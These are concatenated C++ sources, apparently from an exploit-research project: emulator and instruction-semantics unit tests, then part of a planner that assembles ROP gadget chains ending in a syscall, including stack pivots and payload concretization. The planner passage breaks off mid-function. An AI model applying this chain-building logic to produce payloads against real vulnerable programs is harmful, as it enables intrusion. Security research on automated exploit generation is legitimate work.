  EXPECT_EQ(r.reason, StopReason::MaxSteps);
}

TEST(Emulator, PopRspLoadedValueWins) {
  Assembler a;
  a.mov_imm(Reg::RAX, static_cast<i64>(image::kStackTop - 0x800));
  a.push(Reg::RAX);
  a.pop(Reg::RSP);
  a.mov(Reg::RBX, Reg::RSP);
  a.int3();
  auto img = make_image(a);
  Emulator e(img);
  auto r = e.run();
  EXPECT_EQ(r.reason, StopReason::Int3);
  EXPECT_EQ(e.reg(Reg::RBX), image::kStackTop - 0x800);
}

TEST(Emulator, LeaveRestoresFrame) {
  Assembler a;
  a.push(Reg::RBP);
  a.mov(Reg::RBP, Reg::RSP);
  a.alu_imm(Mnemonic::SUB, Reg::RSP, 0x40);
  a.mov_imm(Reg::RAX, 7);
  a.leave();
  a.ret();
  auto img = make_image(a);
  Emulator e(img);
  const u64 rbp0 = 0xdeadbeefULL;
  e.set_reg(Reg::RBP, rbp0);
  auto r = e.run();
  EXPECT_EQ(r.reason, StopReason::Exit);
  EXPECT_EQ(e.reg(Reg::RBP), rbp0);
}

TEST(Memory, SparseZeroFill) {
  Memory m;
  EXPECT_EQ(m.read(0x123456789, 8), 0u);
  m.write(0x123456789, 0xcafe, 2);
  EXPECT_EQ(m.read(0x123456789, 2), 0xcafeu);
  EXPECT_EQ(m.read8(0x123456789), 0xfeu);
  EXPECT_EQ(m.read8(0x12345678a), 0xcau);
  // Cross-page write.
  m.write(0x1fff, 0x11223344, 4);
  EXPECT_EQ(m.read(0x1fff, 4), 0x11223344u);
}

}  // namespace
}  // namespace gp::emu
