// Instruction-level semantic tests: every flag-producing instruction family
// checked against hand-computed x86-64 results through the concrete
// emulator (which interprets the lifted IR, so these pin the lifter).
#include <gtest/gtest.h>

#include "emu/emu.hpp"
#include "image/image.hpp"
#include "support/rng.hpp"
#include "x86/encoder.hpp"

namespace gp::lift {
namespace {

using emu::Emulator;
using emu::StopReason;
using ir::Flag;
using x86::Assembler;
using x86::Cond;
using x86::MemRef;
using x86::Mnemonic;
using x86::Operand;
using x86::Reg;

/// Run `build(a)` with given initial rax/rbx and return the emulator.
template <typename F>
Emulator run(F build, u64 rax = 0, u64 rbx = 0) {
  Assembler a;
  build(a);
  a.int3();
  static std::vector<image::Image> keep_alive;  // Emulator holds a reference
  keep_alive.emplace_back(a.finish(), std::vector<u8>{}, image::kCodeBase);
  Emulator e(keep_alive.back());
  e.set_reg(Reg::RAX, rax);
  e.set_reg(Reg::RBX, rbx);
  EXPECT_EQ(e.run().reason, StopReason::Int3);
  return e;
}

struct FlagCase {
  u64 a, b;
  bool zf, sf, cf, of;
};

TEST(LiftFlags, AddCases) {
  const FlagCase cases[] = {
      {1, 2, false, false, false, false},
      {0, 0, true, false, false, false},
      {0xffffffffffffffffULL, 1, true, false, true, false},  // wrap to 0
      {0x7fffffffffffffffULL, 1, false, true, false, true},  // signed ovf
      {0x8000000000000000ULL, 0x8000000000000000ULL, true, false, true,
       true},  // -min + -min
  };
  for (const auto& c : cases) {
    auto e = run([&](Assembler& a) { a.alu(Mnemonic::ADD, Reg::RAX, Reg::RBX); },
                 c.a, c.b);
    EXPECT_EQ(e.reg(Reg::RAX), c.a + c.b);
    EXPECT_EQ(e.flag(Flag::ZF), c.zf) << c.a << "+" << c.b;
    EXPECT_EQ(e.flag(Flag::SF), c.sf) << c.a << "+" << c.b;
    EXPECT_EQ(e.flag(Flag::CF), c.cf) << c.a << "+" << c.b;
    EXPECT_EQ(e.flag(Flag::OF), c.of) << c.a << "+" << c.b;
  }
}

TEST(LiftFlags, SubCases) {
  const FlagCase cases[] = {
      {5, 3, false, false, false, false},
      {3, 3, true, false, false, false},
      {3, 5, false, true, true, false},                      // borrow
      {0x8000000000000000ULL, 1, false, false, false, true}, // min - 1
  };
  for (const auto& c : cases) {
    auto e = run([&](Assembler& a) { a.alu(Mnemonic::SUB, Reg::RAX, Reg::RBX); },
                 c.a, c.b);
    EXPECT_EQ(e.reg(Reg::RAX), c.a - c.b);
    EXPECT_EQ(e.flag(Flag::ZF), c.zf);
    EXPECT_EQ(e.flag(Flag::SF), c.sf);
    EXPECT_EQ(e.flag(Flag::CF), c.cf) << c.a << "-" << c.b;
    EXPECT_EQ(e.flag(Flag::OF), c.of) << c.a << "-" << c.b;
  }
}

TEST(LiftFlags, IncDecPreserveCarry) {
  // CF must survive inc/dec (x86 rule); ZF/SF update.
  auto e = run([&](Assembler& a) {
    a.alu(Mnemonic::ADD, Reg::RAX, Reg::RBX);  // sets CF
    a.unary(Mnemonic::INC, Reg::RCX);
  }, ~u64{0}, 2);
  EXPECT_TRUE(e.flag(Flag::CF));  // carry from the add survived the inc
  EXPECT_EQ(e.reg(Reg::RCX), 1u);

  auto e2 = run([&](Assembler& a) {
    a.alu(Mnemonic::ADD, Reg::RAX, Reg::RBX);
    a.unary(Mnemonic::DEC, Reg::RCX);
  }, ~u64{0}, 2);
  EXPECT_TRUE(e2.flag(Flag::CF));
}

TEST(LiftFlags, IncOverflow) {
  auto e = run([&](Assembler& a) { a.unary(Mnemonic::INC, Reg::RAX); },
               0x7fffffffffffffffULL);
  EXPECT_TRUE(e.flag(Flag::OF));
  EXPECT_TRUE(e.flag(Flag::SF));
}

TEST(LiftFlags, NegSetsCarryUnlessZero) {
  auto e = run([&](Assembler& a) { a.unary(Mnemonic::NEG, Reg::RAX); }, 5);
  EXPECT_TRUE(e.flag(Flag::CF));
  EXPECT_EQ(e.reg(Reg::RAX), static_cast<u64>(-5));
  auto e2 = run([&](Assembler& a) { a.unary(Mnemonic::NEG, Reg::RAX); }, 0);
  EXPECT_FALSE(e2.flag(Flag::CF));
  EXPECT_TRUE(e2.flag(Flag::ZF));
}

TEST(LiftFlags, LogicalClearCarryOverflow) {
  for (auto m : {Mnemonic::AND, Mnemonic::OR, Mnemonic::XOR, Mnemonic::TEST}) {
    auto e = run([&](Assembler& a) {
      a.alu(Mnemonic::ADD, Reg::RCX, Reg::RCX);  // scramble flags first
      a.alu(m, Reg::RAX, Reg::RBX);
    }, 0xf0f0, 0x0ff0);
    EXPECT_FALSE(e.flag(Flag::CF));
    EXPECT_FALSE(e.flag(Flag::OF));
  }
}

TEST(LiftFlags, ShiftCarryIsLastBitOut) {
  // shl rax, 1 with MSB set -> CF = 1.
  auto e = run([&](Assembler& a) { a.shift_imm(Mnemonic::SHL, Reg::RAX, 1); },
               0x8000000000000000ULL);
  EXPECT_TRUE(e.flag(Flag::CF));
  EXPECT_EQ(e.reg(Reg::RAX), 0u);
  EXPECT_TRUE(e.flag(Flag::ZF));
  // shr rax, 4 with bit 3 set -> CF = 1.
  auto e2 = run([&](Assembler& a) { a.shift_imm(Mnemonic::SHR, Reg::RAX, 4); },
                0x18);
  EXPECT_TRUE(e2.flag(Flag::CF));
  EXPECT_EQ(e2.reg(Reg::RAX), 1u);
  // Count 0 leaves all flags alone.
  auto e3 = run([&](Assembler& a) {
    a.alu(Mnemonic::CMP, Reg::RAX, Reg::RAX);  // ZF=1
    a.mov_imm(Reg::RCX, 0);
    a.shift_cl(Mnemonic::SHL, Reg::RBX);
  }, 7, 9);
  EXPECT_TRUE(e3.flag(Flag::ZF));
}

TEST(LiftFlags, SarKeepsSign) {
  auto e = run([&](Assembler& a) { a.shift_imm(Mnemonic::SAR, Reg::RAX, 8); },
               static_cast<u64>(-4096));
  EXPECT_EQ(static_cast<i64>(e.reg(Reg::RAX)), -16);
  EXPECT_TRUE(e.flag(Flag::SF));
}

TEST(LiftFlags, ParityOfLowByte) {
  // 0x03 has two set bits -> PF=1; 0x01 -> PF=0.
  auto even = run([&](Assembler& a) { a.alu(Mnemonic::ADD, Reg::RAX, Reg::RBX); },
                  1, 2);
  EXPECT_TRUE(even.flag(Flag::PF));
  auto odd = run([&](Assembler& a) { a.alu(Mnemonic::ADD, Reg::RAX, Reg::RBX); },
                 1, 0);
  EXPECT_FALSE(odd.flag(Flag::PF));
}

/// All sixteen condition codes against a cmp whose outcome is known.
TEST(LiftCond, AllSixteenCodes) {
  struct Case {
    u64 a, b;
    Cond cc;
    bool taken;
  };
  const Case cases[] = {
      {5, 5, Cond::E, true},    {5, 6, Cond::E, false},
      {5, 6, Cond::NE, true},   {5, 5, Cond::NE, false},
      {3, 5, Cond::B, true},    {5, 3, Cond::B, false},
      {5, 3, Cond::A, true},    {3, 5, Cond::A, false},
      {5, 5, Cond::AE, true},   {3, 5, Cond::AE, false},
      {3, 5, Cond::BE, true},   {5, 3, Cond::BE, false},
      {static_cast<u64>(-2), 1, Cond::L, true},
      {1, static_cast<u64>(-2), Cond::L, false},
      {1, static_cast<u64>(-2), Cond::G, true},
      {static_cast<u64>(-2), 1, Cond::G, false},
      {5, 5, Cond::GE, true},   {5, 5, Cond::LE, true},
      {static_cast<u64>(-1), 1, Cond::S, true},  // -1 - 1 < 0
      {5, 1, Cond::NS, true},
      {3, 1, Cond::NP, true},   // 3-1=2: one bit -> odd parity
      {5, 2, Cond::P, true},    // 5-2=3: two bits -> even parity
      {0x8000000000000000ULL, 1, Cond::O, true},
      {5, 1, Cond::NO, true},
  };
  for (const auto& c : cases) {
    auto e = run([&](Assembler& a) {
      auto yes = a.new_label();
      a.alu(Mnemonic::CMP, Reg::RAX, Reg::RBX);
      a.mov_imm(Reg::RDX, 0);
      a.jcc(c.cc, yes);
      a.mov_imm(Reg::RDX, 1);  // not taken
      a.bind(yes);
    }, c.a, c.b);
    EXPECT_EQ(e.reg(Reg::RDX) == 0, c.taken)
        << c.a << " cmp " << c.b << " " << x86::cond_name(c.cc);
  }
}

TEST(LiftWidening, MovzxMovsx) {
  // Byte 0x80 at [rsp-8]: movzx -> 0x80, movsx -> sign-extended.
  auto e = run([&](Assembler& a) {
    a.mov_imm(Reg::RCX, 0x1234567890ABCD80LL);
    a.mov_store(MemRef{.base = Reg::RSP, .disp = -8}, Reg::RCX);
    a.movzx_load(Reg::RAX, MemRef{.base = Reg::RSP, .disp = -8}, 8);
    a.movsx_load(Reg::RBX, MemRef{.base = Reg::RSP, .disp = -8}, 8);
    a.movzx_load(Reg::RDX, MemRef{.base = Reg::RSP, .disp = -8}, 16);
    a.movsx_load(Reg::RSI, MemRef{.base = Reg::RSP, .disp = -8}, 16);
  });
  EXPECT_EQ(e.reg(Reg::RAX), 0x80u);
  EXPECT_EQ(e.reg(Reg::RBX), 0xffffffffffffff80ULL);
  EXPECT_EQ(e.reg(Reg::RDX), 0xcd80u);
  EXPECT_EQ(e.reg(Reg::RSI), 0xffffffffffffcd80ULL);
}

TEST(LiftWidening, MovzxRegisterSource) {
  auto e = run([&](Assembler& a) {
    a.emit({.mnemonic = Mnemonic::MOVZX, .src_size = 8,
            .dst = x86::Operand::r(Reg::RAX),
            .src = x86::Operand::r(Reg::RBX), .size = 64});
  }, 0, 0x1ff);
  EXPECT_EQ(e.reg(Reg::RAX), 0xffu);
}

TEST(LiftCmov, TakenAndNotTaken) {
  auto taken = run([&](Assembler& a) {
    a.alu(Mnemonic::CMP, Reg::RAX, Reg::RBX);  // 5 == 5 -> ZF
    a.mov_imm(Reg::RCX, 111);
    a.mov_imm(Reg::RDX, 222);
    a.cmov(Cond::E, Reg::RCX, Reg::RDX);
  }, 5, 5);
  EXPECT_EQ(taken.reg(Reg::RCX), 222u);

  auto not_taken = run([&](Assembler& a) {
    a.alu(Mnemonic::CMP, Reg::RAX, Reg::RBX);
    a.mov_imm(Reg::RCX, 111);
    a.mov_imm(Reg::RDX, 222);
    a.cmov(Cond::E, Reg::RCX, Reg::RDX);
  }, 5, 6);
  EXPECT_EQ(not_taken.reg(Reg::RCX), 111u);
}

TEST(LiftCmov, ThirtyTwoBitZeroExtendsOnMove) {
  // cmov with 32-bit operand size zero-extends when it moves.
  auto e = run([&](Assembler& a) {
    a.mov_imm(Reg::RCX, -1);
    a.alu(Mnemonic::CMP, Reg::RAX, Reg::RBX);
    a.cmov(Cond::E, Reg::RCX, Reg::RDX, 32);
  }, 5, 5);
  EXPECT_EQ(e.reg(Reg::RCX), 0u);  // edx=0 moved, upper bits cleared
}

TEST(LiftMem, PushPopRoundTripPreservesRsp) {
  auto e = run([&](Assembler& a) {
    a.push(Reg::RAX);
    a.push(Reg::RBX);
    a.pop(Reg::RCX);
    a.pop(Reg::RDX);
  }, 0xaaaa, 0xbbbb);
  EXPECT_EQ(e.reg(Reg::RCX), 0xbbbbu);
  EXPECT_EQ(e.reg(Reg::RDX), 0xaaaau);
}

TEST(LiftMem, RetImmPopsExtra) {
  Assembler a;
  a.ret_imm(0x20);
  static std::vector<image::Image> keep;
  keep.emplace_back(a.finish(), std::vector<u8>{}, image::kCodeBase);
  Emulator e(keep.back());
  const u64 rsp0 = e.reg(Reg::RSP);
  e.memory().write(rsp0, image::kExitAddress, 8);
  auto r = e.run();
  EXPECT_EQ(r.reason, StopReason::Exit);
  EXPECT_EQ(e.reg(Reg::RSP), rsp0 + 8 + 0x20);
}

}  // namespace
}  // namespace gp::lift
