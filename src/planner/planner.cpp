#include "planner/planner.hpp"

#include <algorithm>
#include <chrono>

#include "support/rng.hpp"
#include <cstdlib>
#include <cstdio>
#include <queue>
#include <set>

namespace gp::planner {

using gadget::EndKind;
using gadget::Record;
using gadget::reg_bit;
using payload::Chain;
using payload::Goal;
using solver::ExprRef;
using x86::Reg;

void Options::append_key(serial::Writer& w) const {
  w.put_u32(static_cast<u32>(max_expansions));
  w.put_u32(static_cast<u32>(max_chains));
  w.put_u32(static_cast<u32>(max_candidates_per_goal));
  w.put_u32(static_cast<u32>(max_plan_gadgets));
  w.put_u32(static_cast<u32>(max_open_goals));
  w.put_u32(static_cast<u32>(restarts));
  w.put_u64(concretize.stack_base);
  w.put_u64(concretize.max_payload);
  w.put_u32(static_cast<u32>(concretize.validation_trials));
  w.put_bool(use_cond_gadgets);
  w.put_bool(use_indirect_gadgets);
  w.put_bool(use_direct_merged);
}

bool Planner::admissible(const Record& g, const Options& opts) const {
  if (!opts.use_cond_gadgets && g.has_cond_jump) return false;
  if (!opts.use_direct_merged && g.has_direct_jump) return false;
  if (!opts.use_indirect_gadgets && g.end != EndKind::Ret &&
      g.end != EndKind::Syscall)
    return false;
  return true;
}

std::optional<std::vector<int>> Planner::linearize(const Plan& p) {
  const int n = static_cast<int>(p.alpha.size());
  std::vector<std::vector<int>> succ(n);
  std::vector<int> indeg(n, 0);
  std::set<std::pair<int, int>> seen;
  for (const auto& [before, after] : p.beta) {
    if (before == after) return std::nullopt;
    if (!seen.insert({before, after}).second) continue;
    succ[before].push_back(after);
    ++indeg[after];
  }
  // Kahn; ties broken by insertion order (older steps first) to keep
  // producer-before-consumer chains stable.
  std::vector<int> order;
  std::vector<int> ready;
  for (int i = 0; i < n; ++i)
    if (indeg[i] == 0) ready.push_back(i);
  while (!ready.empty()) {
    const int i = *std::min_element(ready.begin(), ready.end());
    ready.erase(std::find(ready.begin(), ready.end(), i));
    order.push_back(i);
    for (const int j : succ[i])
      if (--indeg[j] == 0) ready.push_back(j);
  }
  if (static_cast<int>(order.size()) != n) return std::nullopt;  // cycle
  return order;
}

bool Planner::reg_usable(Reg reg, const Options& opts) {
  auto it = usable_memo_.find(static_cast<int>(reg));
  if (it != usable_memo_.end()) return it->second;
  bool usable = false;
  for (const u32 gi : lib_.controlling(reg)) {
    const Record& g = lib_[gi];
    if (!admissible(g, opts)) continue;
    if (g.end == EndKind::Syscall) continue;
    if (!g.stack_delta && g.end == EndKind::Ret &&
        !g.can_set(x86::Reg::RSP))
      continue;
    if (g.next_rip != solver::kNoExpr && ctx_.is_const(g.next_rip)) continue;
    const ExprRef fin = g.final_regs[static_cast<int>(reg)];
    if (ctx_.is_const(fin)) {
      bool match = false;
      if (goal_)
        for (const payload::RegTarget& t : goal_->regs)
          if (t.reg == reg && t.kind == payload::RegTarget::Kind::Const &&
              t.value == ctx_.const_val(fin))
            match = true;
      if (!match) continue;
    }
    usable = true;
    break;
  }
  usable_memo_.emplace(static_cast<int>(reg), usable);
  return usable;
}

std::vector<Planner::Plan> Planner::expand(const Plan& p,
                                           const Options& opts) {
  std::vector<Plan> out;
  if (p.delta.empty() ||
      static_cast<int>(p.alpha.size()) >= opts.max_plan_gadgets)
    return out;

  // Paper: pick an open pre-condition, find gadgets that can fulfil it.
  const auto [reg, consumer] = p.delta.back();

  // Rank candidates: fewest register dependencies first (a self-dependent
  // setter like `add rax, rcx; ret` technically "sets" rax but re-opens the
  // same goal — lowest priority), then shortest.
  struct Scored {
    u32 gi;
    int score;
  };
  std::vector<Scored> ranked;
  for (const u32 gi : lib_.controlling(reg)) {
    const Record& g = lib_[gi];
    int deps = 0;
    bool self_loop = false;
    {
      // Walk the provided value's variables; POINTER (ind) variables count
      // the registers of their load address (one level is enough to catch
      // the `mov rbp, [rbp-x]` style self-regress).
      std::vector<ExprRef> work =
          ctx_.variables(g.final_regs[static_cast<int>(reg)]);
      for (size_t wi = 0; wi < work.size() && wi < 64; ++wi) {
        const std::string& name = ctx_.var_name(work[wi]);
        if (sym::parse_stack_var(name)) continue;
        if (name.rfind("ind", 0) == 0) {
          for (const sym::IndirectRead& ir : g.ind_reads)
            if (ir.var == work[wi])
              for (const ExprRef av : ctx_.variables(ir.addr))
                work.push_back(av);
          continue;
        }
        ++deps;
        if (name == sym::initial_reg_var(reg)) self_loop = true;
      }
    }
    int clob_count = 0;
    for (int rbit = 0; rbit < x86::kNumRegs; ++rbit)
      clob_count += (g.clobbered >> rbit) & 1;
    // A gadget whose own pointer side-effects constrain the very value it
    // provides (e.g. `pop rax; add [rax], esp; ...`) can only serve
    // pointer-valued goals; heavily deprioritize it.
    bool value_is_pointer = false;
    {
      const auto provided_vars =
          ctx_.variables(g.final_regs[static_cast<int>(reg)]);
      for (const sym::IndirectRead& ir : g.ind_reads)
        for (const ExprRef av : ctx_.variables(ir.addr))
          for (const ExprRef pv : provided_vars)
            value_is_pointer |= av == pv;
    }
    // Writes through non-rsp-relative pointers may alias the payload in
    // ways the no-alias memory model cannot see; validation usually rejects
    // such chains, so prefer gadgets without them.
    int wild_writes = 0;
    {
      const ExprRef rsp0v = ctx_.var(sym::initial_reg_var(Reg::RSP), 64);
      for (const auto& w : g.writes) {
        const auto bo = sym::split_base_offset(ctx_, w.addr);
        if (!bo || bo->base != rsp0v) ++wild_writes;
      }
    }
    // Prefer clean ret gadgets with simple transfer targets; complex
    // computed-jump targets (VM dispatch arithmetic) go last.
    const int transfer_cost =
        g.end == EndKind::Ret || g.next_rip == solver::kNoExpr
            ? 0
            : 30 + static_cast<int>(
                       std::min<size_t>(ctx_.dag_size(g.next_rip), 40));
    const auto fc = failure_count_.find(gi);
    const int failure_cost =
        fc == failure_count_.end() ? 0 : 12 * fc->second;
    ranked.push_back({gi, (self_loop ? 2000 : 0) +
                              (value_is_pointer ? 1500 : 0) +
                              300 * wild_writes + 80 * deps +
                              10 * static_cast<int>(g.precond.size()) +
                              4 * clob_count + transfer_cost +
                              failure_cost + g.n_insts});
  }
  std::stable_sort(ranked.begin(), ranked.end(),
                   [](const Scored& a, const Scored& b) {
                     return a.score < b.score;
                   });
  // Restart diversification: round 0 takes the ranking as-is; later rounds
  // shuffle the top tier with a per-round seed so different provider
  // combinations get tried.
  if (rotation_ > 0 && ranked.size() > 1) {
    // Shuffle only the reasonable tier: candidates whose score is within
    // the self-loop/pointer-conflict penalty band stay put at the bottom.
    size_t tier = 0;
    while (tier < ranked.size() && tier < 16 && ranked[tier].score < 1000)
      ++tier;
    if (tier > 1) {
      Rng rng(0x1234 + 7919u * static_cast<u64>(rotation_) +
              static_cast<u64>(reg));
      for (size_t i = tier - 1; i > 0; --i)
        std::swap(ranked[i], ranked[rng.below(i + 1)]);
    }
  }

  int taken = 0;
  int f_adm = 0, f_sys = 0, f_sd = 0, f_const = 0, f_goalc = 0, f_dead = 0;
  for (const auto& [gi, score] : ranked) {
    if (taken >= opts.max_candidates_per_goal) break;
    const Record& g = lib_[gi];
    if (!admissible(g, opts)) { ++f_adm; continue; }
    // A chain's inner gadget must transfer control onward to a place the
    // payload can choose; a constant target (resolved jump table) would
    // force a specific successor address.
    if (g.end == EndKind::Syscall) { ++f_sys; continue; }
    // Ret gadgets whose stack delta is symbolic are still usable when the
    // final rsp is attacker-aimable (a stack pivot, e.g. lea rsp,[rbp-K]
    // with a popped rbp); the composition solver aims the pivot into the
    // payload.
    if (!g.stack_delta && g.end == EndKind::Ret &&
        !g.can_set(x86::Reg::RSP)) {
      ++f_sd;
      continue;
    }
    if (g.next_rip != solver::kNoExpr && ctx_.is_const(g.next_rip)) {
      ++f_const;
      continue;
    }
    // A constant-valued setter cannot be steered; it only ever serves a
    // terminal goal whose target is that exact constant.
    {
      const ExprRef fin = g.final_regs[static_cast<int>(reg)];
      if (ctx_.is_const(fin)) {
        bool match = false;
        if (consumer < 0 && goal_)
          for (const payload::RegTarget& t : goal_->regs)
            if (t.reg == reg && t.kind == payload::RegTarget::Kind::Const &&
                t.value == ctx_.const_val(fin))
              match = true;
        if (!match) { ++f_goalc; continue; }
      }
    }

    Plan base = p;
    base.delta.pop_back();
    const int self = static_cast<int>(base.alpha.size());
    base.alpha.push_back({gi, reg, consumer});
    base.n_constraints += static_cast<int>(g.precond.size()) +
                          static_cast<int>(ctx_.dag_size(
                              g.final_regs[static_cast<int>(reg)]));

    // Causal ordering: this step before its consumer.
    if (consumer >= 0) base.beta.push_back({self, consumer});

    // Open pre-conditions of the new gadget: every initial register its
    // path condition, indirect transfer target, or provided-value
    // expression depends on must be put under control by some earlier
    // gadget (register-transfer chaining).
    bool needs_unmet = false;
    std::vector<ExprRef> needs = g.precond;
    if (g.next_rip != solver::kNoExpr) needs.push_back(g.next_rip);
    if (reg != Reg::NONE)
      needs.push_back(g.final_regs[static_cast<int>(reg)]);
    for (size_t ni = 0; ni < needs.size(); ++ni) {
      const ExprRef pc = needs[ni];
      for (const ExprRef v : ctx_.variables(pc)) {
        const std::string& name = ctx_.var_name(v);
        if (sym::parse_stack_var(name)) continue;  // payload: solver's job
        if (name.rfind("ind", 0) == 0) {
          // POINTER dependency: the load's address registers must be
          // controlled too.
          for (const sym::IndirectRead& ir : g.ind_reads)
            if (ir.var == v && needs.size() < 32) needs.push_back(ir.addr);
          continue;
        }
        for (int r = 0; r < x86::kNumRegs; ++r) {
          const Reg rr = static_cast<Reg>(r);
          if (rr == Reg::RSP) continue;
          if (name != sym::initial_reg_var(rr)) continue;
          bool open = false;
          for (const auto& [dreg, dcons] : base.delta)
            open |= dreg == rr && dcons == self;
          if (!open) {
            if (!reg_usable(rr, opts)) {
              // Unsatisfiable dependency: this candidate is a dead end.
              needs_unmet = true;
            } else {
              base.delta.push_back({rr, self});
            }
          }
        }
      }
    }

    if (needs_unmet) {
      ++stats_.dead_ends;
      continue;
    }
    // Threat analysis (epsilon). A causal link (P provides r to C) is
    // threatened by any other step B that clobbers r; the resolution is
    // demotion (B before P) or promotion (C before B). Consumers of -1
    // (the terminal syscall) admit only demotion — nothing runs after it.
    struct Threat {
      int clobberer, producer, consumer;
    };
    std::vector<Threat> threats;
    auto link_of = [&](int step) {
      return std::tuple<Reg, int>(base.alpha[step].provides,
                                  base.alpha[step].consumer);
    };
    for (int b = 0; b < static_cast<int>(base.alpha.size()); ++b) {
      const Record& bg = lib_[base.alpha[b].gadget];
      for (int pstep = 0; pstep < static_cast<int>(base.alpha.size());
           ++pstep) {
        if (pstep == b) continue;
        // Only threats involving the new step are new; older pairs were
        // resolved in the parent plan.
        if (b != self && pstep != self) continue;
        const auto [r, cons] = link_of(pstep);
        if (r == Reg::NONE || !bg.clobbers(r)) continue;
        if (cons == b) continue;  // consumer may clobber after consuming
        // A clobber is only a threat when the clobbering value cannot be
        // steered: if B writes a payload-controllable (non-constant) value
        // into r, the composition solver simply picks the value the
        // consumer needs, and B acts as the new producer.
        const ExprRef rv = bg.final_regs[static_cast<int>(r)];
        if (bg.can_set(r) && !ctx_.is_const(rv)) continue;
        threats.push_back({b, pstep, cons});
      }
    }

    // Enumerate resolution combinations (bounded; plans are small).
    std::vector<std::vector<std::pair<int, int>>> resolutions{{}};
    for (const Threat& t : threats) {
      std::vector<std::vector<std::pair<int, int>>> next;
      for (const auto& partial : resolutions) {
        auto demoted = partial;
        demoted.push_back({t.clobberer, t.producer});
        next.push_back(std::move(demoted));
        if (t.consumer >= 0) {
          auto promoted = partial;
          promoted.push_back({t.consumer, t.clobberer});
          next.push_back(std::move(promoted));
        }
      }
      resolutions = std::move(next);
      if (resolutions.size() > 4) resolutions.resize(4);
    }
    // Keep only the first acyclic resolution: beta variants almost always
    // linearize to the same gadget sequence, and the restart rounds provide
    // better diversity than threat-ordering permutations.
    {
      std::vector<std::vector<std::pair<int, int>>> pruned;
      for (const auto& extra : resolutions) {
        Plan probe = base;
        for (const auto& e : extra) probe.beta.push_back(e);
        if (linearize(probe)) {
          pruned.push_back(extra);
          break;
        }
      }
      resolutions = std::move(pruned);
    }

    if (static_cast<int>(base.delta.size()) > opts.max_open_goals) {
      ++stats_.dead_ends;
      continue;
    }
    // A plan at the gadget cap with goals still open can never complete.
    if (!base.delta.empty() &&
        static_cast<int>(base.alpha.size()) >= opts.max_plan_gadgets) {
      ++stats_.dead_ends;
      continue;
    }
    bool produced = false;
    for (const auto& extra : resolutions) {
      Plan np = base;
      for (const auto& e : extra) np.beta.push_back(e);
      if (!linearize(np)) continue;
      out.push_back(std::move(np));
      produced = true;
      if (out.size() > 64) break;  // successor cap per expansion
    }
    if (!produced) {
      ++f_dead;
      if (opts.debug_plan && f_dead <= 2) {
        fprintf(stderr, "    dead cand g[%u] threats=%zu beta=%zu:", gi,
                threats.size(), base.beta.size());
        for (auto& t : threats)
          fprintf(stderr, " (B%d,P%d,C%d)", t.clobberer, t.producer,
                  t.consumer);
        fprintf(stderr, " | beta:");
        for (auto& [x, y] : base.beta) fprintf(stderr, " %d<%d", x, y);
        fprintf(stderr, "\n");
      }
      ++stats_.dead_ends;
      continue;
    }
    ++taken;
    ++stats_.successors;
  }
  if (out.empty()) ++stats_.dead_ends;
  if (out.empty() && opts.debug_plan) {
    fprintf(stderr,
            "  expand(%s/%d): ranked=%zu taken=%d adm=%d sys=%d sd=%d "
            "const=%d goalc=%d dead=%d\n",
            x86::reg_name(reg), consumer, ranked.size(), taken, f_adm, f_sys,
            f_sd, f_const, f_goalc, f_dead);
  }
  return out;
}

std::vector<Chain> Planner::plan(const Goal& goal, const Options& opts) {
  goal_ = &goal;
  usable_memo_.clear();
  std::vector<Chain> chains;
  // Fail fast: if any goal register has no statically usable provider at
  // all, no plan can ever complete.
  for (const payload::RegTarget& t : goal.regs)
    if (!reg_usable(t.reg, opts)) return chains;
  std::set<std::vector<u32>> seen_sequences;
  // The round deadline is the tighter of the local time budget and the
  // governor's global deadline; either one expiring (or a cancellation)
  // stops the search at the next queue pop with best-so-far chains.
  Deadline deadline = Deadline::after_seconds(opts.time_budget_seconds);
  if (opts.governor)
    deadline = Deadline::earlier(deadline, opts.governor->deadline());
  for (int round = 0; round < std::max(1, opts.restarts); ++round) {
    rotation_ = round;
    run_round(goal, opts, chains, seen_sequences, deadline);
    if (static_cast<int>(chains.size()) >= opts.max_chains) break;
    if (deadline.expired()) break;
    if (opts.governor && opts.governor->should_stop()) break;
  }
  return chains;
}

void Planner::run_round(const Goal& goal, const Options& opts,
                        std::vector<Chain>& chains,
                        std::set<std::vector<u32>>& seen_sequences,
                        const Deadline& deadline) {
  std::set<u64> visited_plans;

  // Seed: one initial plan per syscall gadget (the terminal action).
  std::priority_queue<Plan> queue;
  for (const u32 si : lib_.syscalls()) {
    const Record& s = lib_[si];
    if (!admissible(s, opts)) continue;
    Plan p;
    p.terminal = si;
    bool feasible = true;
    for (const payload::RegTarget& t : goal.regs) {
      // If the syscall gadget itself forces this register, it must either
      // leave it alone (a producer will set it) or be able to establish it
      // itself (payload slots / transferred registers). A constant final
      // value is only viable when it matches the goal outright.
      const ExprRef fin = s.final_regs[static_cast<int>(t.reg)];
      if (s.clobbers(t.reg)) {
        if (!s.can_set(t.reg)) feasible = false;
        if (ctx_.is_const(fin) &&
            !(t.kind == payload::RegTarget::Kind::Const &&
              ctx_.const_val(fin) == t.value))
          feasible = false;
      }
      p.delta.push_back({t.reg, -1});
    }
    if (!feasible) {
      ++stats_.dead_ends;
      continue;
    }
    queue.push(std::move(p));
  }

  int expansions = 0;
  const int round_budget = std::max(64, opts.max_expansions /
                                             std::max(1, opts.restarts));
  try {
  while (!queue.empty() && expansions < round_budget &&
         static_cast<int>(chains.size()) < opts.max_chains) {
    // Deadline/cancellation is enforced at EVERY pop, not on a sampled
    // stride: one expansion can hide a slow concretize call, so a sampled
    // check could overshoot the budget by orders of magnitude.
    if (deadline.expired()) {
      ++stats_.deadline_cuts;
      stats_.status.merge(Status::deadline_exceeded("planner deadline"));
      break;
    }
    if (opts.governor) {
      const Status s = opts.governor->poll();
      if (!s.ok()) {
        ++stats_.deadline_cuts;
        stats_.status.merge(s);
        break;
      }
    }
    Plan best = queue.top();
    queue.pop();
    ++expansions;
    ++stats_.expansions;
    if (opts.debug_plan && expansions <= 80) {
      fprintf(stderr, "pop #%d delta=%zu alpha=%zu ncon=%d [", expansions,
              best.delta.size(), best.alpha.size(), best.n_constraints);
      for (auto& [r, c] : best.delta)
        fprintf(stderr, "%s/%d ", x86::reg_name(r), c);
      fprintf(stderr, "]\n");
    }

    if (best.delta.empty()) {
      // Complete plan: linearize and concretize.
      const auto order = linearize(best);
      if (!order) continue;
      ++stats_.linearizations;
      std::vector<u32> seq;
      // Steps feeding the terminal goal run in topological order; the
      // terminal syscall gadget is appended last.
      for (const int i : *order) seq.push_back(best.alpha[i].gadget);
      seq.push_back(best.terminal);
      if (!seen_sequences.insert(seq).second) continue;
